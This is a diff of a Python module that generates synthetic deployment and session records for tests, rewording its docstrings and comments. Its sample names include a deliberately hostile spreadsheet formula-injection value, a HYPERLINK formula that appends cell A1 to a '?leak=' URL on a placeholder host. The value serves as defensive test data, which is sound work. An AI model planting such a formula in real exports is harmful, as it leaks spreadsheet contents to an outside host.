@@ -1,8 +1,8 @@
 """Where do the columns, random numbers, ids, times and texts of generated records come from?
 
-The generator is counter-based (SplitMix64 over a key and an index), so that an account is the same to the byte
-whatever the order in which its parts are asked for, and on every platform and version of NumPy. Names,
-descriptions, prompts and messages are in several languages, a few of them hostile.
+The generator is counter-based (SplitMix64 over a key and an index). So every byte of an account is the same, in
+whatever order its parts are generated, on every platform and version of NumPy. Names, descriptions, prompts and
+messages are in several languages; a few of them try to do harm, for example with control characters.
 """
 
 # ruff: noqa: RUF001, E501, ISC004 - text in many scripts, as people write it, a paragraph a value
@@ -32,7 +32,7 @@ MINUTE = 60 * SECOND
 HOUR = 60 * MINUTE
 DAY = 24 * HOUR
 
-#: Name and description of examples that an account of some dozen deployments has, in this order.
+#: Names and descriptions of examples, in this order; an account of a few dozen deployments has all of them.
 EXAMPLES = (
     ("每日销售日报", "汇总昨日订单，按区域、渠道拆分；异常波动超过 20% 时在群里提醒。"),
     ('=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1-800-555-0100, call before changing"),
@@ -53,7 +53,7 @@ EXAMPLES = (
     ("a name that is as long as a name may be, because somebody pasted the first paragraph of the ticket into it " * 2, ""),
 )  # fmt: skip
 
-#: For each language, words that are joined in every combination: when or where, and what.
+#: For each language, words that are combined: when or where, and what.
 _PARTS = (
     (" ", ("Nightly", "Daily", "Weekly", "Monthly", "Morning", "Hourly", "Weekend", "Billing:", "Platform:", "Retail:",
            "Finance:", "Search:", "Mobile:", "Legal:"),
@@ -69,7 +69,7 @@ _PARTS = (
     (" ", ("Synthèse quotidienne", "Synthèse hebdomadaire"), ("des ventes", "des incidents", "du support")),
     (" ", ("تدقيق", "ملخص"), ("الفواتير", "المبيعات")),
 )  # fmt: skip
-#: Names for the many, each in one language; a number follows where they repeat.
+#: Names for all other deployments, each in one language; repeated names get a number.
 NAMES = tuple(
     f"{first}{space}{second}" for space, firsts, seconds in _PARTS for first in firsts for second in seconds
 )
@@ -116,7 +116,7 @@ FOLLOW_UPS = (
     "请再检查一遍。",
     "Thanks. Add a summary at the top.",
 )
-#: Messages of errors that pass.
+#: Messages of temporary errors.
 PASSING = ("Upstream timed out.", "The model is overloaded.", "Connection reset by peer")
 
 DESCRIPTIONS = (
@@ -177,16 +177,16 @@ PAUSE_ERRORS = (
     ("mcp_egress_blocked_error", "The environment does not allow access to the MCP server."),
     ("unknown_error", "The session could not be created."),
 )
-#: Errors of runs that do not.
+#: Errors of runs that do not pause a deployment.
 RATE_LIMITED = ("session_rate_limited_error", "Too many sessions were created.")
 REJECTED = ("session_creation_rejected_error", "The deployment already has as many running sessions as it may.")
 
 
 class Columns:
-    """Base of classes whose attributes are columns: arrays with one value a row."""
+    """Base of classes whose attributes are columns: arrays with one value per row."""
 
     def __len__(self) -> int:
-        """Return how many rows there are."""
+        """Return the number of rows."""
         return len(next(iter(self.by_name().values())))
 
     def by_name(self) -> dict[str, NDArray[Any]]:
@@ -203,14 +203,14 @@ class Columns:
         return self._with({name: np.concatenate([part[name] for part in parts]) for name in parts[0]})
 
     def _with(self, columns: dict[str, NDArray[Any]]) -> Self:
-        """Return the same with other rows."""
+        """Return a copy with other columns."""
         other = copy(self)
         vars(other).update(columns)
         return other
 
 
 def first_case(cases: Sequence[tuple[NDArray[np.bool_], int]], default: int) -> NDArray[np.int64]:
-    """Return for each row the code of the first case that it meets."""
+    """Return for each row the code of the first case whose condition is true."""
     return np.select([condition for condition, _ in cases], [int(code) for _, code in cases], int(default))
 
 
@@ -225,7 +225,7 @@ def _bits(seed: int, purpose: str, index: NDArray[np.int64]) -> NDArray[np.uint6
 
 
 class Draws:
-    """Random numbers for whole columns, one value an index; one seed gives the same."""
+    """Random numbers for whole columns, one value per index; the same seed gives the same numbers."""
 
     def __init__(self, seed: int) -> None:
         self.seed = seed
@@ -239,7 +239,7 @@ class Draws:
         return (self.uniform(purpose, index) * bound).astype(np.int64)
 
     def among(self, purpose: str, index: NDArray[np.int64], values: Sequence[float]) -> NDArray[np.float64]:
-        """Return one of the values, each as likely as it is frequent in the sequence."""
+        """Return one of the values for each index; a value that occurs twice is twice as likely."""
         return np.asarray(values, dtype=np.float64)[self.below(purpose, index, len(values))]
 
     def tails(self, purpose: str, index: NDArray[np.int64]) -> NDArray[np.int64]:
@@ -248,7 +248,7 @@ class Draws:
 
 
 class Dice:
-    """Random choices for one record, which depend on its name only, such as the record's id."""
+    """Random choices for one record, which only depend on a name, such as the record's id."""
 
     def __init__(self, name: str) -> None:
         self._rest = int.from_bytes(blake2b(name.encode()).digest(), "little")
@@ -263,12 +263,12 @@ class Dice:
         return values[self.below(len(values))]
 
     def percent(self, share: int) -> bool:
-        """Return whether a draw falls into a share, in percent."""
+        """Return True with a probability of `share` percent."""
         return self.below(100) < share
 
 
 def uuid7(nanoseconds: int, tail: int) -> str:
-    """Return 32 hex digits laid out as a UUIDv7 (RFC 9562), which sort as their times do.
+    """Return 32 hex digits in the form of a UUIDv7 (RFC 9562), which sort in order of time.
 
     The digits after the milliseconds hold the rest of the time, as the RFC allows, then 54 random bits.
 
@@ -298,7 +298,7 @@ def as_datetime(nanoseconds: int) -> datetime:
 
 
 def stamp(nanoseconds: int) -> str:
-    """Write a time, in nanoseconds since 1970, as Go does: RFC 3339 in UTC, trailing zeros of the fraction cut.
+    """Write a time, in nanoseconds since 1970, as Go does: RFC 3339 in UTC, without trailing zeros of the fraction.
 
     Examples
     --------
